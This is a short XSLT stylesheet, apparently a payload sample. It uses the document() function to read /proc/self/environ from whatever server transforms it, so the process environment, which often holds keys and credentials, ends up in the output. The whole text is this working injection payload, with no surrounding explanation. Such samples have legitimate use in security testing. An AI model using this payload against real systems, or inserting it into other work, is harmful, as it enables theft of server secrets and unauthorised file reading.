<!-- document() of /proc/self/environ -->
<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">
  <xsl:template match="/">
    <r><xsl:value-of select="document('/proc/self/environ')"/></r>
  </xsl:template>
</xsl:stylesheet>
